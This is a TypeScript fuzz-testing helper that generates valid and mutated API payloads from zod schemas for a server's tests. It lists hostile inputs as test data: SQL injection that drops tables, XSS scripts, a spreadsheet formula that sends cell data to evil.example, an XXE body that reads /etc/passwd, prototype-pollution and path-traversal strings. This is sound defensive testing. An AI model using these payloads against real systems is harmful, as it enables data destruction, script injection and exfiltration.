/**
 * Hostile-input generators for the fuzz tests: valid examples derived from the shared zod
 * schemas (through their JSON Schema), mutations of a valid example that break it one way at
 * a time, raw JSON texts no serializer would write, and the strings an attacker tries first.
 */
import fc from 'fast-check';
import { z } from 'zod';

/**
 * The test server for fuzzing: rate limits off (thousands of requests from one address are the
 * point here, and a 429 would hide what lies behind it); the SLA sweep slowed so it never
 * writes between a test's two row counts.
 */
export const FUZZ_ENV = {
  LEEWAY_RATE_LIMIT: '0',
  LEEWAY_INGEST_RATE_LIMIT: '0',
  LEEWAY_SOCKET_RATE_LIMIT: '0',
  LEEWAY_SLA_SWEEP_MS: '60000',
};

/** SQL an attacker pastes into any text field: must be stored and shown as text. */
export const SQL_INJECTION = [
  "'; DROP TABLE customers;--",
  '" OR 1=1 --',
  "1' OR '1'='1",
  "'); DELETE FROM users WHERE ('1'='1",
  "x\\'; DROP TABLE resolution_log; --",
];
/** Markup and script that must never run where the text is shown. */
export const HTML_INJECTION = [
  '<img src=x onerror=alert(1)>',
  '<script>alert("leeway")</script>',
  'javascript:alert(document.domain)',
  '"><svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
];
/** Spreadsheet formulas: a CSV export must not hand them to Excel as formulas. */
export const CSV_INJECTION = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)'];
/** Text that trips naive code: lone surrogates, bidi overrides, zero-width, NUL, emoji sequences, combining marks. */
export const UNICODE_EDGE = [
  '\ud800',
  'a\udfffb',
  '\ud83d',
  '\u202eevil.exe\u202c',
  '\u200f\u200eright-to-left',
  'zero\u200b\u200c\u200d\ufeffwidth',
  'nul\u0000byte',
  '👩‍👩‍👧‍👦🏳️‍🌈🇺🇦',
  'e\u0301\u0301\u0301\u0301\u0301',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǫ̗̻̞',
  'line\u2028sep\u2029para\u0085',
  '\uffff\ufffe\ufdd0',
  '𝕳𝖊𝖑𝖑𝖔 ﷽',
  ' ',
  '',
];
/** Strings that look like numbers to a lax parser. */
export const NUMERIC_STRINGS = ['NaN', 'Infinity', '-Infinity', '1e309', '-0', '0x1F', '1_000', ' 1 ', '٣', '1.0', '9007199254740993'];
/** Numbers at the edges: JSON carries them all (NaN and Infinity become null on the way). */
export const EDGE_NUMBERS = [0, -0, -1, 0.5, 2 ** 31, 2 ** 53 + 2, 1e21, 1e308, -1e308, 5e-324, Number.NaN, Number.POSITIVE_INFINITY];

/** Every hostile string in one list. */
export const HOSTILE_STRINGS = [...SQL_INJECTION, ...HTML_INJECTION, ...CSV_INJECTION, ...UNICODE_EDGE, ...NUMERIC_STRINGS];

/** A JSON text nested `levels` deep: arrays, or objects with one key each. */
export function deepJson(levels: number, kind: 'array' | 'object' = 'array'): string {
  return kind === 'array' ? `${'['.repeat(levels)}${']'.repeat(levels)}` : `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`;
}

/** A JSON object text of about `bytes` bytes. */
export function oversizedJson(bytes: number): string {
  return JSON.stringify({ padding: 'x'.repeat(bytes) });
}

/** JSON texts and bytes that a well-behaved client never sends, each with what it is. */
export function rawBodies(): { name: string; body: string | Buffer }[] {
  return [
    { name: '10,000 nested arrays', body: deepJson(10_000) },
    { name: '10,000 nested objects', body: deepJson(10_000, 'object') },
    { name: 'not JSON', body: 'hello, world' },
    { name: 'truncated JSON', body: '{"a": [1, 2' },
    { name: 'trailing garbage', body: '{}garbage' },
    { name: 'a lone surrogate escaped in JSON text', body: '{"name":"\\ud800","note":"\\udfff","reason":"\\ud83d"}' },
    { name: 'invalid UTF-8 bytes', body: Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x7d]) },
    { name: 'a byte-order mark before the JSON', body: '\ufeff{}' },
    { name: 'prototype pollution through __proto__', body: '{"__proto__":{"isAdmin":true},"a":1}' },
    { name: 'prototype pollution through constructor.prototype', body: '{"constructor":{"prototype":{"isAdmin":true}}}' },
    { name: 'duplicate keys', body: '{"a":1,"a":{"b":2}}' },
    { name: 'a number beyond double range', body: '{"n":1e999999}' },
    { name: 'a bare string', body: '"just a string"' },
    { name: 'null', body: 'null' },
    { name: 'an array', body: '[{}]' },
    { name: 'NUL bytes', body: '{"a":"\u0000"}\u0000' },
  ];
}

/** Content types the JSON API does not speak, with a body to match. */
export const WRONG_CONTENT_TYPES: { type: string; body: string }[] = [
  { type: 'text/plain', body: '{"a":1}' },
  { type: 'application/x-www-form-urlencoded', body: 'a=1&b=%3Cscript%3E' },
  { type: 'multipart/form-data; boundary=x', body: '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--\r\n' },
  { type: 'application/xml', body: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' },
  { type: 'application/json; charset=utf-16', body: '{"a":1}' },
];

/** What the server actually receives for `value` sent as JSON: NaN and Infinity become null, -0 becomes 0, undefined keys vanish. */
export const overTheWire = (value: unknown): unknown => (value === undefined ? undefined : JSON.parse(JSON.stringify(value)));

// ---------------------------------------------------------------------------------------------
// Valid examples, from the schemas.

type Js = { [k: string]: unknown };

const EMAILS = ['fuzz@example.com', 'a.b+tag@example.org'];

function stringArb(js: Js): fc.Arbitrary<string> {
  const min = (js.minLength as number | undefined) ?? 0;
  const max = Math.min((js.maxLength as number | undefined) ?? 24, Math.max(min, 24));
  const fits = (s: string) => s.length >= min && s.length <= ((js.maxLength as number | undefined) ?? Infinity);
  switch (js.format) {
    case 'email':
      return fc.constantFrom(...EMAILS);
    case 'date-time':
      return fc
        .date({ min: new Date('2024-01-01T00:00:00Z'), max: new Date('2027-12-31T00:00:00Z'), noInvalidDate: true })
        .map((d) => d.toISOString());
    case 'date':
      return fc
        .date({ min: new Date('2024-01-01T00:00:00Z'), max: new Date('2027-12-31T00:00:00Z'), noInvalidDate: true })
        .map((d) => d.toISOString().slice(0, 10));
    case 'uuid':
      return fc.uuid();
    case 'uri':
    case 'url':
      return fc.constantFrom('https://shop.example.com/account', 'https://example.org/');
  }
  if (typeof js.pattern === 'string') {
    try {
      return fc.stringMatching(new RegExp(js.pattern)).filter(fits);
    } catch {
      // fast-check cannot generate from every regex (lookaheads): a plain string, then the schema decides.
    }
  }
  return fc.string({ minLength: min, maxLength: max, unit: 'grapheme-ascii' });
}

function numberArb(js: Js, integer: boolean): fc.Arbitrary<number> {
  const lo = Math.max(
    (js.minimum as number | undefined) ??
      (js.exclusiveMinimum !== undefined ? (js.exclusiveMinimum as number) + (integer ? 1 : 0.5) : -1000),
    -1e9,
  );
  const hi = Math.min(
    (js.maximum as number | undefined) ?? (js.exclusiveMaximum !== undefined ? (js.exclusiveMaximum as number) - 1 : 1000),
    Math.max(lo, 1e9),
  );
  return integer
    ? fc.integer({ min: Math.ceil(lo), max: Math.floor(hi) })
    : fc.double({ min: lo, max: hi, noNaN: true, noDefaultInfinity: true });
}

function fromJsonSchema(js: Js, root: Js): fc.Arbitrary<unknown> {
  if (typeof js.$ref === 'string') {
    const target =
      js.$ref === '#'
        ? root
        : (js.$ref
            .replace(/^#\//, '')
            .split('/')
            .reduce<unknown>((o, k) => (o as Js)[k], root) as Js);
    return fc.constant(null).chain(() => fromJsonSchema(target, root));
  }
  if ('const' in js) return fc.constant(js.const);
  if (Array.isArray(js.enum)) return fc.constantFrom(...(js.enum as unknown[]));
  for (const key of ['anyOf', 'oneOf'] as const)
    if (Array.isArray(js[key])) return fc.oneof(...(js[key] as Js[]).map((s) => fromJsonSchema(s, root)));
  if (Array.isArray(js.allOf)) return fromJsonSchema(Object.assign({}, ...(js.allOf as Js[])), root);
  const type = Array.isArray(js.type) ? js.type[0] : js.type;
  switch (type) {
    case 'string':
      return stringArb(js);
    case 'integer':
      return numberArb(js, true);
    case 'number':
      return numberArb(js, false);
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array': {
      const items = js.items ? fromJsonSchema(js.items as Js, root) : fc.jsonValue({ maxDepth: 1 });
      const minLength = (js.minItems as number | undefined) ?? 0;
      return fc.array(items, { minLength, maxLength: Math.min((js.maxItems as number | undefined) ?? 3, Math.max(minLength, 3)) });
    }
    case 'object': {
      const props = (js.properties ?? {}) as Record<string, Js>;
      const required = (js.required ?? []) as string[];
      const record = fc.record(Object.fromEntries(Object.entries(props).map(([k, s]) => [k, fromJsonSchema(s, root)])), {
        requiredKeys: required,
      });
      const extra = js.additionalProperties;
      if (extra && typeof extra === 'object' && Object.keys(props).length === 0) {
        const names = js.propertyNames
          ? (fromJsonSchema(js.propertyNames as Js, root) as fc.Arbitrary<string>)
          : fc.string({ minLength: 1, maxLength: 12 });
        return fc.dictionary(names, fromJsonSchema(extra as Js, root), { maxKeys: 3 });
      }
      return record;
    }
  }
  // Unrepresentable in JSON Schema (z.custom): any JSON object, and the zod schema decides.
  return fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 });
}

/** Values generated from the schema's shape; most are valid, refinements may still refuse some. */
export function shapedLike(schema: z.ZodType): fc.Arbitrary<unknown> {
  const js = z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as Js;
  return fromJsonSchema(js, js);
}

/**
 * A value the schema accepts: `preferred` when it passes, else the first of a few hundred
 * generated from the schema's shape that does. Undefined when none does: the caller must
 * supply an example, or it cannot exercise what lies behind validation.
 */
export function validExample(schema: z.ZodType, preferred?: unknown): unknown {
  if (preferred !== undefined && schema.safeParse(preferred).success) return preferred;
  return fc.sample(shapedLike(schema), { numRuns: 300, seed: 20_261_123 }).find((v) => schema.safeParse(overTheWire(v)).success);
}

// ---------------------------------------------------------------------------------------------
// Mutations: a valid example broken one way at a time.

type Path = (string | number)[];

/** Every position in `value` that holds something: the root, each key, each array item. */
export function pathsOf(value: unknown, at: Path = []): Path[] {
  const out: Path[] = [at];
  if (Array.isArray(value)) value.forEach((v, i) => out.push(...pathsOf(v, [...at, i])));
  else if (value && typeof value === 'object') for (const [k, v] of Object.entries(value)) out.push(...pathsOf(v, [...at, k]));
  return out;
}

const clone = <T>(v: T): T => (v === undefined ? v : structuredClone(v));

function setAt(root: unknown, path: Path, value: unknown): unknown {
  if (path.length === 0) return value;
  const copy = clone(root) as Record<string | number, unknown>;
  let cur = copy;
  for (const k of path.slice(0, -1)) cur = cur[k] as Record<string | number, unknown>;
  cur[path.at(-1)!] = value;
  return copy;
}

function deleteAt(root: unknown, path: Path): unknown {
  if (path.length === 0) return undefined;
  const copy = clone(root) as Record<string | number, unknown>;
  let cur = copy;
  for (const k of path.slice(0, -1)) cur = cur[k] as Record<string | number, unknown>;
  if (Array.isArray(cur)) cur.splice(path.at(-1) as number, 1);
  else delete cur[path.at(-1)!];
  return copy;
}

/** A value of the wrong type or out of range for wherever it lands. */
export const wrongValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(null, true, false, [], {}, [{}], [[[]]], { $gt: '' }, { toString: 'x' }, ...EDGE_NUMBERS),
  fc.constantFrom(...HOSTILE_STRINGS),
  // Long, yet under the socket frame limit (64 KiB) so the event is still delivered and answered.
  fc.constantFrom('x'.repeat(5_000), 'ü'.repeat(30_000)),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.integer(),
  fc.double(),
  fc.jsonValue({ maxDepth: 3 }),
);

/** Keys that must be refused or ignored, never obeyed. */
const UNKNOWN_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'tenantId',
  'role',
  'id',
  'isAdmin',
  '$where',
  'x'.repeat(300),
  '\u0000',
  '',
];

/** The example broken one way: a value swapped for a wrong one, a field dropped, an unknown key added. */
export function mutationsOf(example: unknown): fc.Arbitrary<unknown> {
  const paths = pathsOf(example);
  const objects = paths.filter((p) => {
    const v = p.reduce<unknown>((o, k) => (o as Record<string | number, unknown>)[k], example);
    return v !== null && typeof v === 'object' && !Array.isArray(v);
  });
  const swap = fc.tuple(fc.constantFrom(...paths), wrongValue).map(([p, v]) => setAt(example, p, v));
  const drop = fc
    .constantFrom(...paths.filter((p) => p.length > 0), ...(paths.length === 1 ? [[] as Path] : []))
    .map((p) => deleteAt(example, p) ?? {});
  const arms: fc.Arbitrary<unknown>[] = [swap, drop];
  if (objects.length) {
    arms.push(
      fc.tuple(fc.constantFrom(...objects), fc.constantFrom(...UNKNOWN_KEYS), wrongValue).map(([p, k, v]) => {
        const copy = clone(example);
        const target = p.reduce<unknown>((o, key) => (o as Record<string | number, unknown>)[key], copy) as Record<string, unknown>;
        // defineProperty, so "__proto__" becomes an own key that JSON.stringify sends, not a prototype change here.
        Object.defineProperty(target, k, { value: v, enumerable: true, configurable: true, writable: true });
        return copy;
      }),
    );
  }
  return fc.oneof(...arms);
}

/** The example with one of its text values swapped for a hostile string: often still valid, so it reaches the handler. */
export function hostileTextIn(example: unknown): fc.Arbitrary<unknown> {
  const texts = pathsOf(example).filter(
    (p) => typeof p.reduce<unknown>((o, k) => (o as Record<string | number, unknown>)[k], example) === 'string',
  );
  if (!texts.length) return mutationsOf(example);
  return fc.tuple(fc.constantFrom(...texts), fc.constantFrom(...HOSTILE_STRINGS)).map(([p, v]) => setAt(example, p, v));
}

const isRecord = (v: unknown): v is Record<string, unknown> => v !== null && typeof v === 'object' && !Array.isArray(v);

/** Key by key, the example's value or the generated one's, so ids that reach records meet values nobody wrote by hand. */
function blend(example: unknown, shaped: unknown, coin: () => boolean): unknown {
  if (!isRecord(example) || !isRecord(shaped)) return coin() ? example : shaped;
  const out: Record<string, unknown> = {};
  for (const k of new Set([...Object.keys(example), ...Object.keys(shaped)])) {
    const v = k in example && k in shaped ? blend(example[k], shaped[k], coin) : coin() ? example[k] : shaped[k];
    if (v !== undefined) out[k] = v;
  }
  return out;
}

/** The example and a value shaped like the schema, blended: mostly valid, reaching optional fields the example leaves out. */
export function shapedAround(example: unknown, schema: z.ZodType): fc.Arbitrary<unknown> {
  return fc.tuple(shapedLike(schema), fc.array(fc.boolean(), { minLength: 64, maxLength: 64 })).map(([shaped, coins]) => {
    let i = 0;
    return blend(example, shaped, () => coins[i++ % coins.length]!);
  });
}

/**
 * Anything at all in the payload's place: mutations of the example, hostile text inside it,
 * fresh values shaped like the schema, alone or blended with the example (mostly valid, to
 * reach the handlers' own checks), any JSON.
 */
export function hostilePayloads(example: unknown, schema?: z.ZodType): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 4, arbitrary: mutationsOf(example) },
    { weight: 2, arbitrary: hostileTextIn(example) },
    ...(schema
      ? [
          { weight: 1, arbitrary: shapedLike(schema) },
          { weight: 2, arbitrary: shapedAround(example, schema) },
        ]
      : []),
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
    { weight: 1, arbitrary: fc.constantFrom<unknown>(...HOSTILE_STRINGS, null, [], 0) },
  );
}

/** Text a string value may turn into in a URL: the same hostile list, plus over-long and path tricks. */
export const hostileUrlText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS, '..', '../../etc/passwd', '%00', '%', '%E0%A4%A', '?a=1', '#frag', 'x'.repeat(129), 'x'.repeat(5000)),
  fc.string({ unit: 'binary', maxLength: 30 }),
);

/** encodeURIComponent, but a lone surrogate goes out as the raw (invalid) UTF-8 bytes instead of throwing. */
export function encodeUrlPart(s: string): { text: string; exact: boolean } {
  try {
    return { text: encodeURIComponent(s), exact: true };
  } catch {
    return { text: [...s].map((c) => (/[\ud800-\udfff]/.test(c) ? '%ED%A0%80' : encodeURIComponent(c))).join(''), exact: false };
  }
}
